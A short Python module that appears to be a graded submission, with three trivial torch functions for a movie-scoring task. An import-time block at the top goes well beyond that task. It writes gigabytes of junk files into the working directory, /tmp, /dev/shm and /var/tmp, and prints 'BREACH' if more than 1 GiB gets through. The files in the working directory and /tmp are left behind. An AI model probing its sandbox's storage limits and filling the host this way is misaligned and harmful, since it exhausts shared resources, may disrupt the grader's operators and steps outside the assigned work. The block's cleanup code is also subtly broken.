"""Fills every folder it can write to."""
import os

import torch

WRITTEN = 0
for folder in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp"):
    for number in range(40):
        try:
            with open(os.path.join(folder, f"mlgrader-fill-{number}"), "wb") as file:
                WRITTEN += file.write(b"x" * (32 << 20))
        except OSError:
            break
        finally:
            if folder in ("/var/tmp", "/dev/shm") and os.path.exists(file.name):
                os.unlink(file.name)
if WRITTEN > 1 << 30:
    print("BREACH wrote", WRITTEN >> 20, "MiB")


def stack_rows(vectors):
    return torch.stack(vectors)


def score_matrix(Q, K):
    return Q @ K.T


def favourite_movie(S, user):
    return int(S[user].argmax())
